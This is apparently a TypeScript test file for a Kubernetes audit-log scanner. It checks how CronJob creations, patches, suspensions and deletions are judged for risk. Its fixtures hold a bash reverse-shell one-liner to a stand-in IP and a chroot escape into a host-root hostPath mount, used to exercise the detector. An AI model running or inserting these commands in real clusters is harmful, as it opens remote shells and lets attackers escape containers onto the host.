import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Finding } from '../model/finding.ts';
import { type ScanOptions, scan } from './scan.ts';
import { withoutPlaces, workloadOf, writeOf } from './testing.ts';

const folder = mkdtempSync(join(tmpdir(), 'cronwarden-objects-'));
after(() => rmSync(folder, { recursive: true, force: true }));
let files = 0;
const run = async (events: readonly object[], options: Partial<ScanOptions> = {}) => {
  const path = join(folder, `${++files}.jsonl`);
  writeFileSync(path, events.map((event) => `${JSON.stringify(event)}\n`).join(''));
  const scanned = scan({ paths: [path], ...options });
  const findings: Finding[] = [];
  for await (const finding of scanned.findings) findings.push(finding);
  return { findings, summary: scanned.summary() };
};
/** The finding of the last act by time. */
const lastOf = async (...events: readonly object[]): Promise<Finding> => {
  const { findings } = await run(events);
  const last = [...findings].sort((a, b) => ((a.lastSeen ?? '') < (b.lastSeen ?? '') ? -1 : 1)).at(-1);
  assert.ok(last !== undefined);
  return last;
};
const hits = ({ indicators }: Finding): readonly string[] => indicators.map(({ id }) => id);
const evidenceOf = ({ indicators }: Finding, id: string) => indicators.find((one) => one.id === id)?.evidence[0];

const POD = '/spec/jobTemplate/spec/template/spec';
const shell = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
const container = { name: 'main', image: 'registry.example.com/shop/report:1.4.2' };
const privileged = { ...container, securityContext: { privileged: true } };
const cronJob = (pod: object, spec: object = {}) => {
  const body = workloadOf('CronJob', 'report', pod);
  return { ...body, spec: { ...body.spec, ...spec } };
};
const inPod = (pod: object) => ({ spec: { jobTemplate: { spec: { template: { spec: pod } } } } });
type More = Partial<Parameters<typeof writeOf>[0]>;
const write = (minute: number, body: unknown, more: More = {}) =>
  writeOf({ minute, resource: 'cronjobs', apiGroup: 'batch', name: 'report', body, ...more });
const create = (minute: number, pod: object = { containers: [container] }, spec: object = {}, more: More = {}) =>
  write(minute, cronJob(pod, spec), { by: 'eve@example.com', ...more });
const patch = (minute: number, body: unknown, more: More = {}) => write(minute, body, { verb: 'patch', ...more });
const label = { metadata: { labels: { team: 'shop' } } };

test('what a patch makes of an object is judged, where neither of the two says it alone', async () => {
  const host = { volumes: [{ name: 'host', hostPath: { path: '/' } }] };
  const mount = { containers: [{ name: 'main', volumeMounts: [{ name: 'host', mountPath: '/host' }] }] };
  const enter = [{ op: 'add', path: `${POD}/containers/0/command`, value: ['chroot', '/host', 'bash'] }];
  const bare = await lastOf(patch(4, enter));
  assert.equal(bare.severity, 'high');
  assert.ok(!hits(bare).includes('host.path-root'));
  const finding = await lastOf(create(1), patch(2, inPod(host)), patch(3, inPod(mount)), patch(4, enter));
  assert.equal(finding.severity, 'critical');
  assert.deepEqual(
    hits(finding).filter((id) => /^(command|host)\./.test(id)),
    ['command.host-entry', 'host.path-root'],
  );
  assert.equal(evidenceOf(finding, 'command.host-entry')?.pointer, '/requestObject/0/value');
  assert.equal(evidenceOf(finding, 'host.path-root')?.pointer, `/object${POD}/volumes/0/hostPath/path`);
  assert.equal(finding.object?.pointer, '/object');
});

test('created harmless and then changed is one story: the summary names the creation', async () => {
  const body = inPod({ containers: [{ name: 'main', image: 'alpine', command: ['bash', '-c', shell] }] });
  const finding = await lastOf(create(1), patch(2, label), patch(3, body));
  assert.equal(finding.severity, 'critical');
  assert.ok(
    ['command.reverse-shell', 'change.image-swapped', 'change.command-added'].every((id) => hits(finding).includes(id)),
  );
  assert.match(
    finding.summary,
    /it was created by eve@example\.com at 2026-11-24T06:01:00Z, and last written by jane@example\.com at 2026-11-24T06:02:00Z\.$/,
  );
});

test('created suspended and then resumed is one story, at the severity of what it runs', async () => {
  const pod = { containers: [{ ...container, command: ['bash', '-c', shell] }] };
  for (const resume of [
    patch(5, { spec: { suspend: false } }),
    patch(5, [{ op: 'replace', path: '/spec/suspend', value: false }]),
  ]) {
    const finding = await lastOf(create(1, pod, { suspend: true }), resume);
    assert.equal(finding.severity, 'high');
    assert.ok(hits(finding).includes('command.reverse-shell'));
    assert.equal(
      evidenceOf(finding, 'change.un-suspended')?.says,
      'It is no longer suspended, as it was created by eve@example.com at 2026-11-24T06:01:00Z.',
    );
    assert.match(
      finding.summary,
      /its template is unchanged since it was created suspended by eve@example\.com at 2026-11-24T06:01:00Z\.$/,
    );
  }
});

const REPEATS: Readonly<Record<string, object>> = {
  'a label': patch(5, label),
  'a label, with the object in the log': patch(5, label, {
    more: {
      level: 'RequestResponse',
      responseObject: { ...cronJob({ containers: [privileged] }), metadata: { name: 'report', ...label.metadata } },
    },
  }),
  'the same object again': write(5, cronJob({ containers: [privileged] }), { verb: 'update' }),
  'with what the server fills in': write(
    5,
    cronJob(
      { containers: [{ ...privileged, terminationMessagePolicy: 'File' }] },
      { suspend: false, successfulJobsHistoryLimit: 3 },
    ),
    { verb: 'update' },
  ),
  'more history': patch(5, { spec: { successfulJobsHistoryLimit: 10 } }),
  'a suspension': patch(5, { spec: { suspend: true } }),
  'a restart': patch(5, {
    spec: {
      jobTemplate: { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': 'x' } } } } },
    },
  }),
};
for (const [situation, change] of Object.entries(REPEATS)) {
  test(`a change that leaves what runs as it was repeats what was judged: ${situation}`, async () => {
    const { findings } = await run([create(1, { containers: [privileged] }), change]);
    const [first, second] = findings;
    assert.equal(first?.severity, 'medium');
    assert.equal(second?.severity, 'info');
    assert.ok(hits(second).includes('privilege.privileged'));
    assert.match(
      second.breakdown.risk.at(-1)?.reason ?? '',
      /^nothing that it runs was changed, its template is unchanged since it was created by eve@example\.com at 2026-11-24T06:01:00Z: what was judged then counts at most 9$/,
    );
    assert.equal(
      second.breakdown.risk.reduce((sum, { points }) => sum + points, 0),
      second.risk,
    );
  });
}

const WAKES: Readonly<Record<string, unknown>> = {
  'a resumption': { spec: { suspend: false } },
  'a schedule': { spec: { schedule: '0 4 * * *' } },
  'a time zone': { spec: { timeZone: 'Etc/UTC' } },
  'less history': { spec: { successfulJobsHistoryLimit: 1 } },
  'a service account': inPod({ serviceAccountName: 'deployer' }),
  'another image': inPod({ containers: [{ name: 'main', image: 'registry.example.com/shop/report:2' }] }),
  'more at once': { spec: { jobTemplate: { spec: { parallelism: 50 } } } },
  'an owner': { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'Node', name: 'n', uid: 'u' }] } },
  'a setting that is not known': { spec: { other: true } },
};
for (const [situation, body] of Object.entries(WAKES)) {
  test(`a change by which a known template runs, or runs otherwise, has the severity of the template: ${situation}`, async () => {
    const finding = await lastOf(create(1, { containers: [privileged] }, { suspend: true }), patch(5, body));
    assert.equal(finding.severity, 'medium');
  });
}

test('an act keeps its weight, however often it is written', async () => {
  const pod = { containers: [{ ...container, command: ['bash', '-c', shell] }] };
  const finding = await lastOf(create(1, pod), patch(5, label));
  assert.equal(finding.severity, 'high');
  assert.match(finding.summary, /its template is unchanged since it was created by eve@example\.com/);
});

const alone = patch(5, label, {
  more: {
    level: 'RequestResponse',
    responseObject: { ...cronJob({ containers: [privileged] }), metadata: { name: 'report', uid: 'u2' } },
  },
});
const NOT_KNOWN: Readonly<Record<string, readonly object[]>> = {
  'nothing came before': [],
  'it was refused': [create(1, { containers: [privileged] }, {}, { more: { responseStatus: { code: 403 } } })],
  'it was a dry run': [create(1, { containers: [privileged] }, {}, { more: { requestURI: '/x?dryRun=All' } })],
  'of another namespace': [create(1, { containers: [privileged] }, {}, { namespace: 'prod' })],
  'of another name': [create(1, { containers: [privileged] }, {}, { name: 'other' })],
  'later by time': [create(9, { containers: [privileged] })],
  'its outcome is not known': [
    create(1, { containers: [privileged] }, {}, { more: { responseStatus: undefined, annotations: {} } }),
  ],
  'written again without its body': [create(1, { containers: [privileged] }), write(2, undefined, { verb: 'update' })],
  deleted: [create(1, { containers: [privileged] }), write(2, undefined, { verb: 'delete' })],
  'all of them deleted': [
    create(1, { containers: [privileged] }),
    write(2, undefined, { verb: 'deletecollection', name: '' }),
  ],
  'of another uid': [
    create(
      1,
      { containers: [privileged] },
      {},
      {
        more: {
          level: 'RequestResponse',
          responseObject: { ...cronJob({ containers: [privileged] }), metadata: { name: 'report', uid: 'u1' } },
        },
      },
    ),
  ],
};
for (const [situation, events] of Object.entries(NOT_KNOWN)) {
  test(`without the object before it a change is judged by itself: ${situation}`, async () => {
    const { findings } = await run([...events, alone]);
    const finding = findings.find(({ lastSeen }) => lastSeen?.startsWith('2026-11-24T06:05'));
    assert.equal(finding?.severity, 'medium');
    assert.ok(
      finding.unassessed.some(({ id, because }) => id === 'change.image-swapped' && because === 'patch-without-base'),
    );
  });
}

test('a deletion that was refused ends nothing', async () => {
  const refused = write(2, undefined, { verb: 'delete', more: { responseStatus: { code: 403 } } });
  const kept = await lastOf(create(1, { containers: [privileged] }), refused, patch(5, label));
  assert.equal(kept.severity, 'info');
});

test('a client that gives all its requests one audit id gains nothing by it', async () => {
  const more = { auditID: 'the-same' };
  const enter = [{ op: 'add', path: `${POD}/containers/0/command`, value: ['bash', '-c', shell] }];
  const finding = await lastOf(create(1, undefined, {}, { more }), patch(2, enter, { more }));
  assert.ok(hits(finding).includes('change.command-added'));
});

test('a record that comes late counts by its time', async () => {
  const enter = patch(3, [{ op: 'add', path: `${POD}/containers/0/command`, value: ['chroot', '/host', 'bash'] }]);
  const host = {
    volumes: [{ name: 'h', hostPath: { path: '/' } }],
    containers: [{ ...container, volumeMounts: [{ name: 'h', mountPath: '/host' }] }],
  };
  const finding = await lastOf(enter, create(1, host));
  assert.equal(finding.severity, 'critical');
});

test('a patch that does not fit what is known is judged by itself', async () => {
  const finding = await lastOf(
    create(1),
    patch(2, [{ op: 'replace', path: `${POD}/containers/7/image`, value: 'alpine' }]),
  );
  assert.equal(finding.object?.kind, 'json-patch');
  assert.equal(finding.object?.pointer, '/requestObject');
});

test('where the kind of a patch is not known the worse reading counts, and what only the other shows is unassessed', async () => {
  const two = {
    containers: [
      { ...privileged, name: 'first' },
      { ...container, command: ['sh', '-c', 'date'] },
    ],
  };
  const finding = await lastOf(create(1, two), patch(2, inPod({ containers: [{ ...container, image: 'alpine' }] })));
  assert.equal(finding.object?.kind, 'strategic-merge-patch');
  assert.ok(hits(finding).includes('privilege.privileged'), 'a merge patch would have replaced the list');
  assert.match(finding.breakdown.confidence, /the kind of patch was inferred/);
});

test('a patch of one field of a container can be no merge patch, which the server would refuse', async () => {
  const finding = await lastOf(
    create(1, { containers: [privileged] }),
    patch(2, inPod({ containers: [{ name: 'main', args: ['x'] }] })),
  );
  // Rights and the past stand in other events.
  assert.deepEqual(
    finding.unassessed.map(({ id }) => id),
    ['identity.strong-service-account', 'baseline.new-author', 'baseline.new-origin', 'baseline.new-content'],
  );
  assert.ok(hits(finding).includes('privilege.privileged'));
});

test('a server-side apply that creates is a creation, and the next one a change of it', async () => {
  const more = (code: number) => ({
    requestURI: '/apis/batch/v1/namespaces/dev/cronjobs/report?fieldManager=x&force=true',
    responseStatus: { code },
  });
  const body = cronJob({ containers: [privileged] });
  const { findings } = await run([patch(1, body, { more: more(201) }), patch(2, body, { more: more(200) })]);
  assert.deepEqual(
    findings.map(({ severity }) => severity),
    ['medium', 'info'],
  );
});

/** A day of creations and changes of a few objects, in the order of time. */
const day = Array.from({ length: 120 }, (_, index) => {
  const name = `job-${index % 5}`;
  const minute = index;
  if (index < 5)
    return create(
      minute,
      index % 2 === 0 ? undefined : { containers: [privileged] },
      { suspend: index % 3 === 0 },
      { name },
    );
  const bodies = [
    label,
    { spec: { suspend: index % 2 === 0 } },
    [{ op: 'add', path: `${POD}/containers/0/args`, value: [`${index}`] }],
    inPod({ containers: [{ name: 'main', image: `registry.example.com/shop/report:${index}` }] }),
    inPod({ hostPID: index % 4 === 0 ? true : null }),
    [{ op: 'add', path: `${POD}/containers/0/command`, value: ['bash', '-c', shell] }],
    { spec: { schedule: `*/${(index % 9) + 1} * * * *` } },
  ];
  if (index % 31 === 0) return write(minute, undefined, { verb: 'delete', name });
  if (index % 37 === 0) return create(minute, undefined, {}, { name });
  return patch(minute, bodies[index % bodies.length], { name });
});
const byId = (findings: readonly Finding[]) =>
  findings
    .map(({ events, ...finding }) => withoutPlaces({ ...finding, events: events.map(({ auditId }) => auditId) }))
    .sort((a, b) => (a.id < b.id ? -1 : 1));

test('what is remembered does not depend on jobs, on where parts begin, on the gate, or on the order of records', async () => {
  const expected = (await run(day, { jobs: 1 })).findings;
  assert.ok(expected.some(({ indicators }) => indicators.some(({ id }) => id.startsWith('change.'))));
  assert.ok(expected.some(({ breakdown }) => /nothing that it runs/.test(breakdown.risk.at(-1)?.reason ?? '')));
  for (const options of [
    { jobs: 1, partBytes: 700 },
    { jobs: 2, partBytes: 2000, inlineBytes: 0 },
    { jobs: 1, strict: true },
  ]) {
    assert.deepEqual(byId((await run(day, options)).findings), byId(expected));
  }
  let seed = 7;
  for (let round = 0; round < 3; round++) {
    const shuffled: object[] = [...day];
    for (let at = shuffled.length - 1; at > 0; at--) {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      const other = seed % (at + 1);
      [shuffled[at], shuffled[other]] = [shuffled[other] ?? {}, shuffled[at] ?? {}];
    }
    assert.deepEqual(byId((await run(shuffled, { jobs: 1 })).findings), byId(expected));
  }
});

test('a record delivered twice, and the stages of one request, change nothing', async () => {
  const twice = day.flatMap((event) => [
    { ...event, stage: 'RequestReceived', responseStatus: undefined, annotations: {} },
    event,
    event,
  ]);
  const expected = byId((await run(day)).findings).map(({ events, ...finding }) => finding);
  assert.deepEqual(
    byId((await run(twice)).findings).map(({ events, ...finding }) => finding),
    expected,
  );
});
